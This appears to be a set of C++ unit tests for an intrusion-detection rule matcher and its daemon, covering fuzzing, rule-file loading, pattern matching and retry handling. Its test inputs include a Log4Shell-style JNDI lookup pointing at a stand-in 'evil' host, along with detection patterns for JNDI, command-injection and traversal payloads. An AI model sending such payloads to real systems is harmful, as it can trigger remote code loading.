TEST(TruncationFuzz, MatcherSurvivesEveryTruncationPoint) {
  const RuleSet ruleset = generate_study_ruleset();
  const Matcher matcher(ruleset.rules());
  util::Rng rng(101);
  for (const auto& payload : seed_payloads()) {
    // Every prefix boundary near the interesting region, plus random cuts.
    std::vector<std::size_t> cuts = {0, 1, 2, 3};
    for (int i = 0; i < 24; ++i) cuts.push_back(rng.uniform_u64(payload.size() + 1));
    for (const std::size_t cut : cuts) {
      const auto session = make_session(payload.substr(0, cut));
      EXPECT_NO_THROW({ (void)matcher.match_all(session); });
    }
  }
}

TEST(TruncationFuzz, MatcherSurvivesRandomCorruption) {
  const RuleSet ruleset = generate_study_ruleset();
  const Matcher matcher(ruleset.rules());
  util::Rng rng(202);
  for (const auto& payload : seed_payloads()) {
    for (int round = 0; round < 8; ++round) {
      std::string corrupted = payload;
      const std::size_t flips = 1 + rng.uniform_u64(8);
      for (std::size_t f = 0; f < flips && !corrupted.empty(); ++f) {
        const auto pos = rng.uniform_u64(corrupted.size());
        corrupted[pos] = static_cast<char>(rng.uniform_int(0, 255));
      }
      const auto session = make_session(std::move(corrupted));
      EXPECT_NO_THROW({ (void)matcher.earliest_published_match(session); });
    }
  }
}

TEST(TruncationFuzz, NegationFreeMatchingIsMonotoneInPayloadLength) {
  // For rules without negated contents / pcre, growing the payload can
  // only add match opportunities: once a prefix matches, every longer
  // prefix must match too.
  const RuleSet ruleset = generate_study_ruleset();
  std::vector<Rule> negation_free;
  for (const auto& rule : ruleset.rules()) {
    bool has_negation = rule.pcre.has_value();
    for (const auto& c : rule.contents) has_negation |= c.negated;
    if (!has_negation) negation_free.push_back(rule);
  }
  ASSERT_FALSE(negation_free.empty());
  const Matcher matcher(negation_free);

  util::Rng rng(303);
  for (const auto& payload : seed_payloads()) {
    // Walk truncation points from short to long; per rule, once matched it
    // must stay matched.
    std::vector<std::size_t> cuts;
    for (std::size_t cut = 0; cut <= payload.size(); cut += 1 + rng.uniform_u64(16)) {
      cuts.push_back(cut);
    }
    cuts.push_back(payload.size());
    std::vector<bool> matched_before(negation_free.size(), false);
    for (const std::size_t cut : cuts) {
      const auto session = make_session(payload.substr(0, cut));
      std::vector<bool> matched_now(negation_free.size(), false);
      for (const Rule* rule : matcher.match_all(session)) {
        matched_now[static_cast<std::size_t>(rule - matcher.rules().data())] = true;
      }
      for (std::size_t r = 0; r < matched_now.size(); ++r) {
        EXPECT_LE(matched_before[r], matched_now[r])
            << "sid " << negation_free[r].sid << " unmatched at longer prefix " << cut;
      }
      matched_before = matched_now;
    }
  }
}

TEST(TruncationFuzz, PcreLiteSurvivesTruncatedAndCorruptText) {
  const std::vector<std::string> patterns = {
      "/jndi:(ldap|rmi|dns)/i", "/\\$\\{.{0,40}\\}/",  "/cmd=[a-z]+;/i",
      "/a{2,5}b+c*/",           "/[\\x00-\\x1f]{4,}/", "/(GET|POST) \\/[\\w\\/]*/",
  };
  std::vector<Regex> regexes;
  for (const auto& p : patterns) {
    auto option = parse_pcre_option(p);
    ASSERT_TRUE(option.has_value()) << p;
    regexes.push_back(std::move(option->regex));
  }
  util::Rng rng(404);
  for (const auto& payload : seed_payloads()) {
    for (int round = 0; round < 16; ++round) {
      std::string text = payload.substr(0, rng.uniform_u64(payload.size() + 1));
      for (std::size_t f = 0; f < 4 && !text.empty(); ++f) {
        text[rng.uniform_u64(text.size())] = static_cast<char>(rng.uniform_int(0, 255));
      }
      for (const auto& regex : regexes) {
        EXPECT_NO_THROW({ (void)regex.search(text); });
      }
    }
  }
}

TEST(TruncationFuzz, RegexMatchOnPrefixImpliesMatchOnWhole) {
  // Unanchored search over a needle pattern: if it fires on a prefix it
  // must fire on the whole string (the prefix's bytes are still there).
  const auto regex = Regex::compile("jndi:(ldap|rmi)", "i");
  ASSERT_TRUE(regex.has_value());
  util::Rng rng(505);
  const std::string base = "POST /api HTTP/1.1\r\nX: ${jndi:ldap://evil/a}\r\n\r\npadpadpad";
  for (std::size_t cut = 0; cut <= base.size(); ++cut) {
    if (regex->search(std::string_view(base).substr(0, cut))) {
      for (std::size_t longer = cut; longer <= base.size(); ++longer) {
        EXPECT_TRUE(regex->search(std::string_view(base).substr(0, longer))) << longer;
      }
      break;
    }
  }
}

}  // namespace
}  // namespace cvewb::ids
