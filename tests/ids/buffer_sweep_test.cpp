// Parameterized sweep over the HTTP sticky buffers: a rule bound to buffer
// B matches a payload carrying the token in B and rejects payloads
// carrying it anywhere else.
#include <gtest/gtest.h>

#include "ids/matcher.h"
#include "ids/rule_parser.h"
#include "net/http.h"

namespace cvewb::ids {
namespace {

constexpr const char* kToken = "zmarker77";

struct BufferCase {
  Buffer buffer;
  const char* option;  // rule modifier keyword
};

net::TcpSession session_with_token_in(Buffer where) {
  net::HttpRequest req;
  req.method = where == Buffer::kHttpMethod ? std::string(kToken) : std::string("POST");
  req.uri = where == Buffer::kHttpUri ? "/path/" + std::string(kToken) : "/path/plain";
  if (where == Buffer::kHttpRawUri) req.uri = "/raw/" + std::string(kToken);
  req.add_header("Host", "h");
  req.add_header("X-Probe", where == Buffer::kHttpHeader ? kToken : "plain");
  req.add_header("Cookie",
                 where == Buffer::kHttpCookie ? std::string("k=") + kToken : "k=plain");
  req.body = where == Buffer::kHttpClientBody ? std::string("data=") + kToken : "data=plain";
  net::TcpSession s;
  s.payload = req.serialize();
  if (where == Buffer::kRaw) s.payload = std::string("raw bytes ") + kToken;
  return s;
}

class BufferSweep : public ::testing::TestWithParam<BufferCase> {};

TEST_P(BufferSweep, RuleMatchesOnlyItsOwnBuffer) {
  const auto& param = GetParam();
  std::string rule_text = "alert tcp any any -> any any (msg:\"b\"; content:\"";
  rule_text += kToken;
  rule_text += "\"; ";
  if (param.option[0] != '\0') {
    rule_text += param.option;
    rule_text += "; ";
  }
  rule_text += "sid:1;)";
  auto rules = parse_rules(rule_text);
  const Matcher matcher(std::move(rules));

  static constexpr Buffer kAll[] = {Buffer::kRaw,        Buffer::kHttpUri,
                                    Buffer::kHttpRawUri, Buffer::kHttpHeader,
                                    Buffer::kHttpCookie, Buffer::kHttpClientBody,
                                    Buffer::kHttpMethod};
  for (Buffer where : kAll) {
    const auto session = session_with_token_in(where);
    const bool matched = !matcher.match_all(session).empty();
    bool expected = where == param.buffer;
    // The raw buffer sees the entire payload, so a raw rule also fires
    // when the token appears in any HTTP part except the decoded URI...
    if (param.buffer == Buffer::kRaw && where != Buffer::kRaw) expected = true;
    // ...and URI rules see both raw and decoded forms of the same string.
    if (param.buffer == Buffer::kHttpUri && where == Buffer::kHttpRawUri) expected = true;
    if (param.buffer == Buffer::kHttpRawUri && where == Buffer::kHttpUri) expected = true;
    EXPECT_EQ(matched, expected) << "rule buffer " << to_string(param.buffer)
                                 << ", token in " << to_string(where);
  }
}

INSTANTIATE_TEST_SUITE_P(
    AllBuffers, BufferSweep,
    ::testing::Values(BufferCase{Buffer::kRaw, ""}, BufferCase{Buffer::kHttpUri, "http_uri"},
                      BufferCase{Buffer::kHttpRawUri, "http_raw_uri"},
                      BufferCase{Buffer::kHttpHeader, "http_header"},
                      BufferCase{Buffer::kHttpCookie, "http_cookie"},
                      BufferCase{Buffer::kHttpClientBody, "http_client_body"},
                      BufferCase{Buffer::kHttpMethod, "http_method"}),
    [](const auto& info) { return to_string(info.param.buffer); });

}  // namespace
}  // namespace cvewb::ids
