#include "ids/aho_corasick.h"

#include <gtest/gtest.h>

#include "util/rng.h"
#include "util/strings.h"

namespace cvewb::ids {
namespace {

TEST(AhoCorasick, FindsAllPatterns) {
  AhoCorasick ac;
  const auto a = ac.add("he");
  const auto b = ac.add("she");
  const auto c = ac.add("his");
  const auto d = ac.add("hers");
  ac.build();
  const auto hits = ac.find_all("ushers");
  EXPECT_EQ(hits, (std::vector<std::size_t>{a, b, d}));
  EXPECT_EQ(ac.find_all("his house"), std::vector<std::size_t>{c});
  EXPECT_EQ(ac.find_all("to her"), std::vector<std::size_t>{a});
}

TEST(AhoCorasick, CaseInsensitive) {
  AhoCorasick ac;
  const auto id = ac.add("${JNDI:");
  ac.build();
  EXPECT_EQ(ac.find_all("x=${jndi:ldap://x}"), std::vector<std::size_t>{id});
  EXPECT_EQ(ac.find_all("x=${JnDi:ldap://x}"), std::vector<std::size_t>{id});
}

TEST(AhoCorasick, BinaryBytes) {
  AhoCorasick ac;
  const auto id = ac.add(std::string("\x90\x90\xff", 3));
  ac.build();
  EXPECT_EQ(ac.find_all(std::string("aa\x90\x90\xff:bb", 8)), std::vector<std::size_t>{id});
}

TEST(AhoCorasick, NoMatches) {
  AhoCorasick ac;
  ac.add("needle");
  ac.build();
  EXPECT_TRUE(ac.find_all("haystack without it").empty());
  EXPECT_TRUE(ac.find_all("").empty());
}

TEST(AhoCorasick, DuplicatePatternsGetDistinctIds) {
  AhoCorasick ac;
  const auto a = ac.add("dup");
  const auto b = ac.add("dup");
  ac.build();
  EXPECT_EQ(ac.find_all("duplicate"), (std::vector<std::size_t>{a, b}));
}

TEST(AhoCorasick, ScanReportsEndOffsets) {
  AhoCorasick ac;
  ac.add("ab");
  ac.build();
  std::vector<std::size_t> ends;
  ac.scan("abxab", [&](std::size_t, std::size_t end) { ends.push_back(end); });
  EXPECT_EQ(ends, (std::vector<std::size_t>{2, 5}));
}

TEST(AhoCorasick, UsageErrors) {
  AhoCorasick ac;
  EXPECT_THROW(ac.add(""), std::invalid_argument);
  ac.add("x");
  EXPECT_THROW(ac.find_all("x"), std::logic_error);  // before build
  ac.build();
  EXPECT_THROW(ac.add("y"), std::logic_error);  // after build
  ac.build();                                   // idempotent
}

TEST(AhoCorasick, PropertyMatchesNaiveSearch) {
  // Property: over random texts, AC hit-set equals the naive
  // case-insensitive substring check for every pattern.
  util::Rng rng(77);
  const std::vector<std::string> patterns = {"${jndi", "exec", "aaa", "GET /", "%2e%2e",
                                             "luaopen_os", "ab"};
  AhoCorasick ac;
  for (const auto& p : patterns) ac.add(p);
  ac.build();
  const std::string alphabet = "ab{}$%2e./GETjndiexecluaopen_os ";
  for (int trial = 0; trial < 200; ++trial) {
    std::string text;
    const int len = static_cast<int>(rng.uniform_int(0, 80));
    for (int i = 0; i < len; ++i) {
      text.push_back(alphabet[rng.uniform_u64(alphabet.size())]);
    }
    std::vector<std::size_t> expected;
    for (std::size_t i = 0; i < patterns.size(); ++i) {
      if (util::ifind(text, patterns[i]) != std::string_view::npos) expected.push_back(i);
    }
    EXPECT_EQ(ac.find_all(text), expected) << "text: " << text;
  }
}

}  // namespace
}  // namespace cvewb::ids
