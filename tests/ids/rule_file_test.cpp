#include "ids/rule_file.h"

#include "ids/rule_gen.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <sstream>

namespace cvewb::ids {
namespace {

namespace fs = std::filesystem;

TEST(RuleFile, VariablesExpandInHeaders) {
  std::stringstream in(
      "# Talos-style preamble\n"
      "portvar WEB_PORTS [80,8090]\n"
      "\n"
      "alert tcp $EXTERNAL_NET any -> $HOME_NET $WEB_PORTS "
      "(msg:\"v\"; content:\"probe\"; sid:1;)\n");
  const RuleSet rules = load_ruleset(in);
  ASSERT_EQ(rules.size(), 1u);
  const Rule* rule = rules.find_sid(1);
  ASSERT_NE(rule, nullptr);
  EXPECT_TRUE(rule->src_ports.any);
  EXPECT_TRUE(rule->dst_ports.permits(8090));
  EXPECT_FALSE(rule->dst_ports.permits(22));
}

TEST(RuleFile, DefaultVariablesAvailable) {
  std::stringstream in(
      "alert tcp $EXTERNAL_NET any -> $HTTP_SERVERS $HTTP_PORTS "
      "(msg:\"d\"; content:\"x\"; sid:2;)\n");
  const RuleSet rules = load_ruleset(in);
  EXPECT_TRUE(rules.find_sid(2)->dst_ports.permits(8443));
}

TEST(RuleFile, VariablesComposeRecursively) {
  std::stringstream in(
      "portvar BASE [80]\n"
      "portvar ALIAS $BASE\n"
      "alert tcp any any -> any $ALIAS (msg:\"r\"; content:\"x\"; sid:3;)\n");
  const RuleSet rules = load_ruleset(in);
  EXPECT_TRUE(rules.find_sid(3)->dst_ports.permits(80));
}

TEST(RuleFile, DollarInsideContentIsNotAVariable) {
  std::stringstream in(
      R"(alert tcp any any -> any any (msg:"j"; content:"${jndi:"; nocase; sid:4;))"
      "\n");
  const RuleSet rules = load_ruleset(in);
  EXPECT_EQ(rules.find_sid(4)->contents[0].pattern, "${jndi:");
}

TEST(RuleFile, UndefinedVariableRejected) {
  std::stringstream in("alert tcp $NOPE any -> any any (msg:\"u\"; content:\"x\"; sid:5;)\n");
  EXPECT_THROW(load_ruleset(in), ParseError);
}

TEST(RuleFile, CyclicVariablesRejected) {
  std::stringstream definitions("portvar A $B\n");
  // Defining A in terms of undefined B fails immediately...
  EXPECT_THROW(load_ruleset(definitions), ParseError);
  // ...and self-reference cannot be constructed through the API, because
  // definitions expand eagerly.  Direct expansion still guards the depth:
  VariableMap cyclic;
  cyclic["A"] = "$A";
  EXPECT_THROW(expand_variables("$A", cyclic, 1), ParseError);
}

TEST(RuleFile, IncludeRejectedWithoutFileContext) {
  std::stringstream in("include other.rules\n");
  EXPECT_THROW(load_ruleset(in), ParseError);
}

class RuleFileOnDisk : public ::testing::Test {
 protected:
  void SetUp() override {
    directory_ = fs::temp_directory_path() /
                 ("cvewb_rules_test_" + std::to_string(::getpid()));
    fs::create_directories(directory_);
  }
  void TearDown() override { fs::remove_all(directory_); }

  void write(const std::string& name, const std::string& text) {
    std::ofstream out(directory_ / name);
    out << text;
  }

  fs::path directory_;
};

TEST_F(RuleFileOnDisk, IncludesResolveRelativeToFile) {
  write("main.rules",
        "portvar WEB [8090]\n"
        "include extra/confluence.rules\n"
        "alert tcp any any -> any $WEB (msg:\"main\"; content:\"a\"; sid:10;)\n");
  fs::create_directories(directory_ / "extra");
  write("extra/confluence.rules",
        "alert tcp any any -> any $WEB (msg:\"included\"; content:\"b\"; sid:11;)\n");
  const RuleSet rules = load_ruleset_file(directory_ / "main.rules");
  EXPECT_EQ(rules.size(), 2u);
  ASSERT_NE(rules.find_sid(11), nullptr);
  // The include sees variables defined before it in the including file.
  EXPECT_TRUE(rules.find_sid(11)->dst_ports.permits(8090));
}

TEST_F(RuleFileOnDisk, MissingIncludeFails) {
  write("main.rules", "include nope.rules\n");
  EXPECT_THROW(load_ruleset_file(directory_ / "main.rules"), ParseError);
}

TEST_F(RuleFileOnDisk, RecursiveIncludeDepthLimited) {
  write("loop.rules", "include loop.rules\n");
  EXPECT_THROW(load_ruleset_file(directory_ / "loop.rules"), ParseError);
}

TEST(RuleFileLenient, SkipsUnparseableLinesAndReportsThem) {
  std::stringstream in(
      "alert tcp any any -> any 80 (msg:\"ok\"; content:\"a\"; sid:20;)\n"
      "alert tcp any any -> any 80 (msg:\"broken no sid\"; content:\"b\";)\n"
      "this is not a rule at all\n"
      "alert tcp $UNDEFINED any -> any any (msg:\"bad var\"; content:\"c\"; sid:21;)\n"
      "alert tcp any any -> any 443 (msg:\"also ok\"; content:\"d\"; sid:22;)\n");
  const LenientLoadResult result = load_ruleset_lenient(in);
  EXPECT_EQ(result.rules.size(), 2u);
  EXPECT_NE(result.rules.find_sid(20), nullptr);
  EXPECT_NE(result.rules.find_sid(22), nullptr);
  ASSERT_EQ(result.skipped.size(), 3u);
  EXPECT_EQ(result.skipped[0].line_number, 2u);
  EXPECT_EQ(result.skipped[1].line_number, 3u);
  EXPECT_EQ(result.skipped[2].line_number, 4u);
  EXPECT_EQ(result.skipped[0].source, "<stream>");
  for (const auto& skip : result.skipped) EXPECT_FALSE(skip.reason.empty());
}

TEST(RuleFileLenient, StrictLoaderStillThrowsOnTheSameInput) {
  const std::string text =
      "alert tcp any any -> any 80 (msg:\"ok\"; content:\"a\"; sid:30;)\n"
      "garbage line\n";
  std::stringstream strict_in(text);
  EXPECT_THROW(load_ruleset(strict_in), ParseError);
  std::stringstream lenient_in(text);
  EXPECT_EQ(load_ruleset_lenient(lenient_in).rules.size(), 1u);
}

TEST(RuleFileLenient, CleanInputSkipsNothing) {
  std::stringstream in(
      "# comment\n"
      "portvar WEB [80]\n"
      "alert tcp any any -> any $WEB (msg:\"ok\"; content:\"a\"; sid:31;)\n");
  const LenientLoadResult result = load_ruleset_lenient(in);
  EXPECT_EQ(result.rules.size(), 1u);
  EXPECT_TRUE(result.skipped.empty());
}

TEST_F(RuleFileOnDisk, LenientFileLoadRecordsSourcePath) {
  write("mixed.rules",
        "alert tcp any any -> any 80 (msg:\"ok\"; content:\"a\"; sid:40;)\n"
        "include extra/more.rules\n");
  fs::create_directories(directory_ / "extra");
  write("extra/more.rules",
        "broken line here\n"
        "alert tcp any any -> any 80 (msg:\"inc\"; content:\"b\"; sid:41;)\n");
  const LenientLoadResult result = load_ruleset_file_lenient(directory_ / "mixed.rules");
  EXPECT_EQ(result.rules.size(), 2u);
  ASSERT_EQ(result.skipped.size(), 1u);
  EXPECT_EQ(result.skipped[0].line_number, 1u);
  EXPECT_NE(result.skipped[0].source.find("more.rules"), std::string::npos);
}

TEST_F(RuleFileOnDisk, StudyRulesetRoundTripsThroughDisk) {
  // Serialize the full synthetic ruleset and load it back from a file.
  write("study.rules", generate_study_ruleset().serialize());
  const RuleSet loaded = load_ruleset_file(directory_ / "study.rules");
  EXPECT_EQ(loaded.size(), generate_study_ruleset().size());
  EXPECT_NE(loaded.find_sid(58722), nullptr);  // Log4Shell group A
}

}  // namespace
}  // namespace cvewb::ids
