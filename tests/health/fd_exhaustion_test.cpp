// Daemon behaviour at the descriptor-table limit, end-to-end over real
// sockets.  An injected EMFILE window makes accept() fail deterministically;
// the daemon must pause accepting (pending clients wait in the kernel
// backlog -- no spin, no drop), sweep idle connections, and resume after
// the backoff -- and a job submitted through the recovered connection must
// complete byte-identical to the in-process reference.  Also covers the
// store_scrub wire op and the idle-loop scheduled scrub.
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <filesystem>
#include <optional>
#include <string>
#include <thread>

#include "cache/serialize.h"
#include "chaos/resource_shim.h"
#include "daemon/server.h"
#include "pipeline/study.h"
#include "store/store.h"
#include "util/sha256.h"

namespace cvewb::daemon {
namespace {

namespace fs = std::filesystem;
using std::chrono::milliseconds;
using std::chrono::steady_clock;

constexpr double kScale = 0.005;

fs::path fresh_dir(const std::string& name) {
  const fs::path dir = fs::temp_directory_path() / "cvewb_health_fd" / name;
  fs::remove_all(dir);
  fs::create_directories(dir);
  return dir;
}

/// Blocking newline-framed JSON client against 127.0.0.1:port.
class TestClient {
 public:
  ~TestClient() { close(); }

  bool connect_to(std::uint16_t port) {
    fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
    if (fd_ < 0) return false;
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_port = htons(port);
    ::inet_pton(AF_INET, "127.0.0.1", &addr.sin_addr);
    return ::connect(fd_, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0;
  }

  bool send_raw(std::string_view bytes) {
    std::size_t sent = 0;
    while (sent < bytes.size()) {
      const auto n = ::send(fd_, bytes.data() + sent, bytes.size() - sent, MSG_NOSIGNAL);
      if (n <= 0) return false;
      sent += static_cast<std::size_t>(n);
    }
    return true;
  }

  std::optional<std::string> read_line() {
    for (;;) {
      const auto newline = buf_.find('\n');
      if (newline != std::string::npos) {
        std::string line = buf_.substr(0, newline);
        buf_.erase(0, newline + 1);
        return line;
      }
      char chunk[4096];
      const auto n = ::recv(fd_, chunk, sizeof chunk, 0);
      if (n <= 0) return std::nullopt;
      buf_.append(chunk, static_cast<std::size_t>(n));
    }
  }

  std::optional<util::Json> round_trip(const util::Json& request) {
    if (!send_raw(request.dump() + "\n")) return std::nullopt;
    const auto line = read_line();
    if (!line) return std::nullopt;
    std::string error;
    auto doc = util::parse_json(*line, error);
    if (!doc) return std::nullopt;
    return std::move(*doc);
  }

  void close() {
    if (fd_ >= 0) ::close(fd_);
    fd_ = -1;
  }

 private:
  int fd_ = -1;
  std::string buf_;
};

std::string str(const util::Json& doc, std::string_view key) {
  const util::Json* value = doc.find(key);
  return value != nullptr && value->type() == util::Json::Type::kString ? value->as_string()
                                                                        : std::string();
}

std::int64_t num(const util::Json& doc, std::string_view key) {
  const util::Json* value = doc.find(key);
  return value != nullptr && value->type() == util::Json::Type::kNumber
             ? static_cast<std::int64_t>(value->as_number())
             : -1;
}

bool ok(const util::Json& doc) {
  const util::Json* value = doc.find("ok");
  return value != nullptr && value->as_bool();
}

/// Server on an ephemeral port with its event loop on a background thread.
class LiveServer {
 public:
  explicit LiveServer(ServerConfig config) : server_(std::move(config)) {
    EXPECT_TRUE(server_.start());
    thread_ = std::thread([this] { server_.run(); });
  }

  ~LiveServer() { stop(); }

  void stop() {
    if (!thread_.joinable()) return;
    server_.request_shutdown();
    thread_.join();
  }

  std::uint16_t port() const { return server_.port(); }
  Server& server() { return server_; }

 private:
  Server server_;
  std::thread thread_;
};

ServerConfig fast_config() {
  ServerConfig config;
  config.poll_interval = milliseconds(5);
  config.scheduler.workers = 2;
  config.scheduler.backlog_capacity = 16;
  return config;
}

util::Json submit_frame(std::uint64_t seed, double scale, int threads) {
  util::Json frame;
  frame.set("op", util::Json("submit"));
  frame.set("seed", util::Json(static_cast<std::int64_t>(seed)));
  frame.set("scale", util::Json(scale));
  frame.set("threads", util::Json(static_cast<std::int64_t>(threads)));
  return frame;
}

util::Json query_frame(const std::string& job) {
  util::Json frame;
  frame.set("op", util::Json("query"));
  frame.set("job", util::Json(job));
  return frame;
}

util::Json scrub_frame(bool repair) {
  util::Json frame;
  frame.set("op", util::Json("store_scrub"));
  frame.set("repair", util::Json(repair));
  return frame;
}

std::string reference_digest(std::uint64_t seed, double scale) {
  pipeline::StudyConfig config;
  config.seed = seed;
  config.event_scale = scale;
  const pipeline::StudyResult result = pipeline::run_study(config);
  return util::sha256_hex(cache::encode_study_result(result));
}

util::Json run_to_terminal(TestClient& client, std::uint64_t seed, double scale, int threads) {
  const auto admitted = client.round_trip(submit_frame(seed, scale, threads));
  EXPECT_TRUE(admitted && ok(*admitted)) << (admitted ? admitted->dump() : "no reply");
  const std::string job = str(*admitted, "job");
  const auto give_up = steady_clock::now() + std::chrono::minutes(2);
  for (;;) {
    const auto status = client.round_trip(query_frame(job));
    EXPECT_TRUE(status.has_value());
    if (!status) return util::Json();
    const std::string state = str(*status, "state");
    if (state != "queued" && state != "running") return *status;
    EXPECT_LT(steady_clock::now(), give_up) << "job " << job << " never reached terminal state";
    std::this_thread::sleep_for(milliseconds(10));
  }
}

// An injected EMFILE window covering the first three accept attempts:
// the client's connect() completes in the kernel backlog, the daemon
// pauses-and-retries through the window, and once a descriptor is finally
// granted the whole submit/poll/complete cycle runs byte-identically.
TEST(FdExhaustion, AcceptRecoversFromDescriptorExhaustionByteIdentical) {
  ServerConfig config = fast_config();
  config.accept_retry_backoff = milliseconds(40);
  LiveServer live(config);

  chaos::ResourceFaultPlan plan;
  plan.fail_fd_from = 1;
  plan.fail_fd_to = 3;
  chaos::ResourceShim shim(plan);
  {
    chaos::ScopedResourceShim scope(shim);
    TestClient client;
    ASSERT_TRUE(client.connect_to(live.port()));
    const util::Json status = run_to_terminal(client, 7, kScale, 1);
    ASSERT_EQ(str(status, "state"), "complete") << status.dump();
    EXPECT_EQ(str(status, "digest"), reference_digest(7, kScale));
  }
  EXPECT_GE(shim.stats().injected_fd_failures, 3u)
      << "the EMFILE window never fired -- test proves nothing";
  live.stop();
  EXPECT_GE(live.server().stats().accept_fd_exhausted, 3u);
}

// store_scrub over the wire: run a study (the daemon ingests it into the
// shared store), then ask the daemon to scrub.  A clean store scrubs
// clean: files scanned, nothing damaged, deep verify green.
TEST(FdExhaustion, StoreScrubWireOpScansTheIngestedStore) {
  ServerConfig config = fast_config();
  config.store_dir = fresh_dir("scrub_store").string();
  LiveServer live(config);
  TestClient client;
  ASSERT_TRUE(client.connect_to(live.port()));

  const util::Json status = run_to_terminal(client, 7, kScale, 1);
  ASSERT_EQ(str(status, "state"), "complete") << status.dump();

  const auto scrub = client.round_trip(scrub_frame(/*repair=*/true));
  ASSERT_TRUE(scrub.has_value());
  EXPECT_TRUE(ok(*scrub)) << scrub->dump();
  EXPECT_GT(num(*scrub, "files_scanned"), 0) << scrub->dump();
  EXPECT_EQ(num(*scrub, "lost_lsns"), 0) << scrub->dump();
  const util::Json* damaged = scrub->find("damaged");
  ASSERT_NE(damaged, nullptr);
  EXPECT_TRUE(damaged->as_array().empty()) << scrub->dump();
  const util::Json* verify_ok = scrub->find("verify_ok");
  ASSERT_NE(verify_ok, nullptr);
  EXPECT_TRUE(verify_ok->as_bool()) << scrub->dump();
}

// The self-healing loop: with scrub_interval set, the event loop runs a
// repair-mode scrub whenever the store is idle.
TEST(FdExhaustion, ScheduledScrubFiresWhenIdle) {
  ServerConfig config = fast_config();
  config.scrub_interval = milliseconds(25);
  config.store_dir = fresh_dir("sched_scrub_store").string();
  LiveServer live(config);
  const auto give_up = steady_clock::now() + std::chrono::seconds(10);
  for (;;) {
    std::this_thread::sleep_for(milliseconds(50));
    if (live.server().store() != nullptr && live.server().store()->stats().scrubs > 0) break;
    ASSERT_LT(steady_clock::now(), give_up) << "scheduled scrub never fired";
  }
  live.stop();
  EXPECT_GE(live.server().stats().scheduled_scrubs, 1u);
}

}  // namespace
}  // namespace cvewb::daemon
