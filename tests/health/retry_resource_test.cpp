// retry_io under cancellation and deadlines: the interplay the supervisor
// and the store's I/O retries depend on.  The contract under test: the
// attempt budget is spent on real attempts only -- a cancellation that
// lands during the backoff sleep stops the loop *without* running another
// attempt, and whatever structured error the last real attempt produced
// stays intact for the caller to report.
#include "util/retry.h"

#include <gtest/gtest.h>

#include <chrono>
#include <string>
#include <thread>

#include "util/cancel.h"

namespace cvewb::util {
namespace {

using std::chrono::microseconds;
using std::chrono::milliseconds;
using std::chrono::steady_clock;

TEST(RetryResource, AttemptBudgetIsSpentOnRealAttemptsOnly) {
  RetryPolicy policy;
  policy.max_retries = 2;
  policy.backoff_base = microseconds(100);
  int attempts = 0;
  std::vector<int> retry_indexes;
  const bool ok = retry_io(
      policy, nullptr,
      [&] {
        ++attempts;
        return false;
      },
      [&](int index) { retry_indexes.push_back(index); });
  EXPECT_FALSE(ok);
  EXPECT_EQ(attempts, 3);  // 1 + max_retries
  EXPECT_EQ(retry_indexes, (std::vector<int>{0, 1}));
}

TEST(RetryResource, SuccessStopsTheSchedule) {
  RetryPolicy policy;
  policy.max_retries = 5;
  policy.backoff_base = microseconds(100);
  int attempts = 0;
  const bool ok = retry_io(
      policy, nullptr,
      [&] {
        ++attempts;
        return attempts == 3;
      },
      [](int) {});
  EXPECT_TRUE(ok);
  EXPECT_EQ(attempts, 3);
}

TEST(RetryResource, PreCancelledTokenRunsOneAttemptAndNeverRetries) {
  RetryPolicy policy;
  policy.max_retries = 5;
  CancelToken cancel;
  cancel.request_cancel();
  int attempts = 0;
  int retries = 0;
  const bool ok = retry_io(
      policy, &cancel,
      [&] {
        ++attempts;
        return false;
      },
      [&](int) { ++retries; });
  EXPECT_FALSE(ok);
  EXPECT_EQ(attempts, 1);  // the attempt itself is not a cancellation point
  EXPECT_EQ(retries, 0);
}

TEST(RetryResource, CancelDuringBackoffStopsWithoutConsumingAnAttempt) {
  RetryPolicy policy;
  policy.max_retries = 5;
  policy.backoff_base = milliseconds(500);  // would be a visible stall if slept
  policy.backoff_cap = milliseconds(500);
  CancelToken cancel;
  int attempts = 0;
  int retries = 0;
  std::string last_error;
  const auto start = steady_clock::now();
  const bool ok = retry_io(
      policy, &cancel,
      [&] {
        ++attempts;
        last_error = "resource_exhausted: attempt " + std::to_string(attempts);
        return false;
      },
      [&](int) {
        ++retries;
        // The cancellation lands between the retry decision and the sleep --
        // exactly the window where a naive loop would burn another attempt.
        cancel.request_cancel();
      });
  const auto elapsed = steady_clock::now() - start;
  EXPECT_FALSE(ok);
  EXPECT_EQ(attempts, 1);  // the budget was NOT spent on a post-cancel attempt
  EXPECT_EQ(retries, 1);
  // The caller's structured error from the last real attempt is intact.
  EXPECT_EQ(last_error, "resource_exhausted: attempt 1");
  // And the loop returned promptly instead of sleeping out the backoff.
  EXPECT_LT(elapsed, milliseconds(400));
}

TEST(RetryResource, CrossThreadCancelInterruptsTheBackoffSlice) {
  RetryPolicy policy;
  policy.max_retries = 1;
  policy.backoff_base = std::chrono::seconds(2);
  policy.backoff_cap = std::chrono::seconds(2);
  CancelToken cancel;
  int attempts = 0;
  std::thread canceller([&cancel] {
    std::this_thread::sleep_for(milliseconds(20));
    cancel.request_cancel();
  });
  const auto start = steady_clock::now();
  const bool ok = retry_io(
      policy, &cancel,
      [&] {
        ++attempts;
        return false;
      },
      [](int) {});
  const auto elapsed = steady_clock::now() - start;
  canceller.join();
  EXPECT_FALSE(ok);
  EXPECT_EQ(attempts, 1);
  // Sliced sleep: a signal 20ms in must not stall for the full 2s delay.
  EXPECT_LT(elapsed, milliseconds(1000));
}

TEST(RetryResource, DeadlineExpiryDuringBackoffStopsTheLoop) {
  RetryPolicy policy;
  policy.max_retries = 3;
  policy.backoff_base = std::chrono::seconds(2);
  policy.backoff_cap = std::chrono::seconds(2);
  CancelToken cancel;
  cancel.arm_deadline(steady_clock::now() + milliseconds(10));
  int attempts = 0;
  const auto start = steady_clock::now();
  const bool ok = retry_io(
      policy, &cancel,
      [&] {
        ++attempts;
        return false;
      },
      [](int) {});
  const auto elapsed = steady_clock::now() - start;
  EXPECT_FALSE(ok);
  EXPECT_EQ(attempts, 1);
  EXPECT_EQ(cancel.reason(), CancelReason::kDeadline);
  EXPECT_LT(elapsed, milliseconds(1000));
}

TEST(RetryResource, DelayScheduleIsDeterministicAndCapped) {
  RetryPolicy policy;
